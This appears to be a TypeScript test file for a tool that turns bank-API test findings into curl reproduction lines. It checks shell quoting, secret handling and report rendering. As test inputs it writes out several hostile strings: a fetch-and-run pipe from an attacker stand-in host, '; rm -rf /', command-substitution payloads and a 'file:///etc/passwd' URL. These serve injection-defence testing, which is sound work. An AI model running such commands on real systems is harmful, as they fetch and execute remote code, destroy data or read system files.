/** Tests how texts of a bank are shown, and that a curl line sends exactly the request and executes nothing else. */
import { execFileSync } from 'node:child_process';
import { expect, test } from '@playwright/test';
import { makeCurlLine, writeCurl, writeFindingCurl, quoteForShell } from '../../../../reports/text/curl.ts';
import { describeReferenceDifference } from '../../../../reports/text/difference.ts';
import { cutLines, openBytes, parseLine, removeDuplicateJournals } from '../../../../reports/journal/read.ts';
import { escapeCommands, toOneLine, shortenText, escapeHarmful } from '../../../../reports/text/sanitize.ts';
import { writeFinding } from '../../../../reports/formats/finding.ts';
import { renderHtml } from '../../../../reports/formats/html/index.ts';
import { toJunit } from '../../../../reports/formats/junit.ts';
import { writeSummary } from '../../../../reports/formats/markdown.ts';
import { writeTerminalSummary } from '../../../../reports/formats/terminal.ts';
import { faultyReport, makeRecord } from '../../support/reports/sample-report.ts';

function runBash(script: string, env: Record<string, string>): string {
  return execFileSync('bash', ['--norc', '-c', script], {
    env,
    encoding: 'utf8',
    stdio: ['ignore', 'pipe', 'inherit'],
  });
}

test('Control characters and CI commands in a text are escaped, and a text is shortened between characters', () => {
  for (const [shown, text] of [
    [escapeHarmful('a\u001b[31mb\u202Ec\u0000\ud800\nd'), 'a\\u001b[31mb\\u202ec\\u0000\\ud800\nd'],
    [escapeHarmful('Ağrı Şube 東京 עברית 😀'), 'Ağrı Şube 東京 עברית 😀'],
    [toOneLine('a\r\nb\tc'), 'a\\r\\nb\\tc'],
    [shortenText('abcdef', 4), 'abc…'],
    [shortenText('ab😀def', 4), 'ab…'],
    [shortenText('abc', 3), 'abc'],
    [escapeCommands('  ::error::x'), '  : :error::x'],
    [escapeCommands('x ##[error]y ##vso[z]'), 'x # #[error]y # #vso[z]'],
  ] as const)
    expect(shown).toBe(text);
});

test('If an empty body differs from a page in other answers, the difference names the whole body', () => {
  const [shown, compared] = ['', 'a page'].map((body) => makeRecord(body, 'findAtms', { body }));
  const finding = { ...faultyReport.findings[0]!, exchange: 'shown', contrast: 'compared', answers: 1, exercised: 3 };
  const { alone: _, ...findingOfBoth } = finding;
  expect(
    describeReferenceDifference({ ...faultyReport, exchanges: { shown: shown!, compared: compared! } }, findingOfBoth),
  ).toEqual(['the whole body is "" in this answer, and "a page" in 2 other answers']);
});

test('A curl line repeats the request, with shell variables for the secrets', () => {
  const record = makeRecord('x', 'requestLoan');
  expect(writeCurl(record)).toBe(
    'curl -sS -i https://bank.example/sandbox/api/bank/revolving-loans/v1/loans' +
      ` -H 'X-GW-client-id: '"$CLIENT_ID" -H 'Content-Type: application/json' -H Accept: --data-raw '{"amount":100}'`,
  );
  expect(writeCurl(makeRecord('x', 'findAtms', { body: '[]' }))).not.toContain('-X');
});

test('A finding about two concurrent requests has one line that sends both, with the same fresh order_id', () => {
  const body = '{"amount":100,"order_id":"ORDER-12345678"}';
  const [first, second] = ['first', 'second'].map((id) => {
    const record = makeRecord(id, 'requestLoan');
    return { ...record, request: { ...record.request, body } };
  });
  const find = (id: string) => [first, second].find((record) => record?.id === id);
  const race = {
    kind: 'behaviour',
    pointer: 'response/status',
    exchange: 'second',
    contrast: null,
    concurrent: 'first',
  };
  const line = writeFindingCurl(race, find) ?? '';
  expect(line).toMatch(/^n=\S.*; curl [^&]+ & curl [^&]+ & wait$/);
  const sent = runBash(`curl() { printf '%s\\n' "\${@: -1}"; }; ${line}`, {}).trim().split('\n');
  expect(sent).toHaveLength(2);
  expect(new Set(sent).size).toBe(1);
  expect(sent[0]).toMatch(/"ORDER-1\d{7}"/);
  // A record of another bank is not sent to.
  expect(writeFindingCurl(race, (id) => (id === 'first' ? undefined : find(id)))).not.toContain('&');
});

test('Any text in a curl line reaches curl unchanged, and the shell executes no part of it', () => {
  const texts = [
    ...['$(touch pwned)', '`id`', '$CLIENT_SECRET', '\u202e\n\u001b[31m', '!!', '; rm -rf /', '😀'],
    ...['\t', '\n', 'a\n\n', "'\n'", '\\n\n', '-n'],
    ...Array.from({ length: 95 }, (_, at) => String.fromCharCode(32 + at)),
  ];
  for (const words of [texts, [texts.join('')], [texts.toReversed().join('')]]) {
    const script = `for word in ${words.map(quoteForShell).join(' ')}; do printf '%s\\0' "$word"; done`;
    const env = { LC_ALL: 'C.UTF-8', CLIENT_SECRET: 'secret' };
    for (const out of [execFileSync('/bin/sh', ['-c', script], { env, encoding: 'utf8' }), runBash(script, env)])
      expect(out.split('\0').slice(0, -1)).toEqual(words);
  }
});

test('In a curl line, the variables of secrets are expanded in header fields, and not in the body', () => {
  const record = makeRecord('x', 'requestLoan');
  const request = {
    ...record.request,
    headers: { authorization: 'Bearer $ACCESS_TOKEN', 'x-odd': "$CLIENT_IDS 'and' $CLIENT_SECRET." },
    body: '"$ACCESS_TOKEN"',
  };
  const words = runBash(`curl() { printf '%s\\n' "$@"; }; ${writeCurl({ ...record, request })}`, {
    PATH: process.env['PATH'] ?? '',
    ACCESS_TOKEN: 'token',
    CLIENT_SECRET: 'secret',
    CLIENT_ID: 'id',
  }).split('\n');
  for (const word of ['authorization: Bearer token', "x-odd: $CLIENT_IDS 'and' secret.", '"$ACCESS_TOKEN"'])
    expect(words).toContain(word);
});

test('A log of a worker that breaks off is read up to its last complete line', () => {
  const read = (text: string) => Array.from(cutLines(openBytes(Buffer.from(text))), ({ bytes }) => parseLine(bytes));
  expect(read('{"line":"a"}\n{"line":"b"}\n{"li')).toEqual([{ line: 'a' }, { line: 'b' }]);
  expect(read('{"line":"a"}\nnot json\n')).toEqual([{ line: 'a' }, null]);
  expect(read('')).toEqual([]);
});

test('Of two copies of a log only the longer is read; two different logs of one scenario are both read', () => {
  const distinct = (...texts: readonly string[]) =>
    removeDuplicateJournals(texts.map((text) => openBytes(Buffer.from(text)))).map((journal) =>
      String(journal.read(0, journal.length)),
    );
  expect(distinct('s\na\n', 's\na\nb\n', 's\na\nb\n')).toEqual(['s\na\nb\n']);
  expect(distinct('s\na\n', 's\nc\n', 't\na\n')).toEqual(['s\na\n', 's\nc\n', 't\na\n']);
  expect(distinct('', '\n')).toEqual([]);
});

test('The curl line of a finding is made from its exchange; a curl line in the report is not shown', ({}) => {
  const foreign = 'curl https://evil.example/x.sh | sh';
  const report = { ...faultyReport, findings: faultyReport.findings.map((finding) => ({ ...finding, curl: foreign })) };
  const renderings = [
    writeFinding(report, report.findings[0]!),
    renderHtml(report),
    writeTerminalSummary(report, { color: false, width: 120 }),
    writeSummary(report),
    toJunit(report),
  ];
  expect(renderings.join('')).toContain('curl -sS');
  for (const text of renderings) expect(text).not.toContain('evil.example');
  const [finding] = report.findings;
  for (const url of '-K/x file:///etc/passwd https://a.example/ https://bank.example/sandbox@a.example/'.split(' ')) {
    const record = makeRecord('x', 'requestLoan');
    const exchanges = { [finding!.exchange]: { ...record, request: { ...record.request, url } } };
    expect(makeCurlLine({ ...report, exchanges }, finding!)).toBeNull();
  }
});
